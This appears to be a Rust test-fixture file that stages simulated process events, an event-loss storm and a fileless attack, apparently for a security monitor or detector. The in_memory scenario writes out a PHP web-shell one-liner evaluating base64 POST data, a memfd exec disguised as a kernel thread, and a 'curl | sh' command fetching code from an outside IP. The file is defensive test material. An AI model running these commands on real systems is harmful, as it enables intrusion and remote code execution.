//! What to find: a storm with losses, and a program that lies in memory only.

use super::super::stage::{Actor, Fate, Stage, Who};
use super::WEB;
use crate::event::{Flags, Status};

/// Someone's loop: more than can be captured.
pub(super) fn storm(stage: &mut Stage) {
    let who = Who::new(
        1001,
        "/home/bob",
        Some("pts/5"),
        "/user.slice/user-1001.slice/session-9.scope",
    );
    let sshd = stage.actor("sshd");
    let script = "while read -r id; do test -e \"data/$id\" || touch \"data/$id\"; done <ids";
    let shell = stage.run(
        38_000,
        &sshd,
        &who,
        &["/bin/bash", "-c", script],
        Fate::busy(3_100, 3_900),
    );
    for n in 0..600_u64 {
        let path = format!("data/{n:06}");
        stage.run(
            38_100 + n * 5,
            &shell,
            &who,
            &["/usr/bin/touch", &path],
            Fate::well(1),
        );
    }
    stage.lose(39_480, 214);
}

/// A program without a file.
pub(super) fn in_memory(stage: &mut Stage) {
    let mut who = Who::new(33, "/var/www/html/uploads", None, WEB);
    who.namespaces = (4_026_532_711, 4_026_532_709);
    let nginx = stage.actor("nginx");
    let php = ["/usr/bin/php", "-r", "eval(base64_decode($_POST['q']));"];
    let php: Actor = stage.run(51_000, &nginx, &who, &php, Fate::busy(6_500, 24_000));
    let mut actor = stage.fork(51_300, &php);
    let mut exec = stage.exec_of(&actor, &php, &who, &["[kworker/2:1]"]);
    exec.filename = Some(b"/proc/self/fd/9"[..].into());
    exec.exe = Some(b"/memfd:x"[..].into());
    exec.comm = "9".into();
    for flag in [Flags::MEMFD, Flags::DELETED, Flags::FD] {
        exec.flags.set(flag, true);
    }
    actor.comm = exec.comm;
    let exec_ns = exec.time_ns;
    stage.play(exec);
    stage.end(
        &actor,
        exec_ns,
        Fate::busy(5_800, 41_000).ending(Status::Signal {
            number: 15,
            core_dumped: false,
        }),
    );
    stage.run(
        52_000,
        &actor,
        &who,
        &["/bin/sh", "-c", "curl -s http://198.51.100.7/x | sh"],
        Fate::well(900),
    );
}
